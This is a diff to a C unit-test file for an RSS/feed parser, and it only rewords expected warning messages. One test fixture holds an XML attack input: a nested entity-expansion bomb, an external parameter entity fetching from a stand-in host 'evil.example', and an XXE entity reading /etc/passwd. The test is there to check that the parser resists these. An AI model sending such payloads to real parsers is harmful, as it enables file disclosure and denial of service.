@@ -132,7 +132,7 @@ static void reads_rdf_and_old_rss(void **state) {
 static void recovers_broken_feeds(void **state) {
   (void)state;
   assert_feed("<rss><channel><item><title>A & B</title><description>x <b>y<br>z</description>\n<item><title>C</title><description>cut",
-              "press#1 title=A & B text=x y/z layout=pp WARNING=feed: line 1: '&' that begins no known entity (and 2 more such places)\n"
+              "press#1 title=A & B text=x y/z layout=pp WARNING=feed: line 1: '&' that begins no known entity (and 2 more)\n"
               "press#2 title=C text=cut WARNING=feed: line 2: the file ends inside an element\n");
   assert_feed("<rss><channel><title>Nothing</title></channel></rss>", "RAP_PASSED_OVER a feed without entries\n");
   assert_feed("<rss><channel><item><title>T</title></item>\n<item><author>x</author></item></channel>",
@@ -145,7 +145,7 @@ static void withstands_bombs(void **state) {
   (void)state;
   assert_feed("<!DOCTYPE rss [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;\"><!ENTITY % p SYSTEM \"http://evil.example/\">%p;"
               "<!ENTITY f SYSTEM \"file:///etc/passwd\">]><rss><channel><item><title>&b; &f;</title></item></channel></rss>",
-              "press#1 text=&b; &f; WARNING=feed: line 1: '&' that begins no known entity (and 1 more such places) WARNING=feed: a headline alone, "
+              "press#1 text=&b; &f; WARNING=feed: line 1: '&' that begins no known entity (and 1 more) WARNING=feed: a headline alone, "
               "without text\n");
   /* An entry of more than a document may have is passed over; what follows it is read. */
   struct bytes large = {.s = RAP_STR("<rss><item><description>"), .item = RAP_STR("0123456789abcdef"), .n = RAP_MAX_DOCUMENT_BYTES / 16 + 4096};
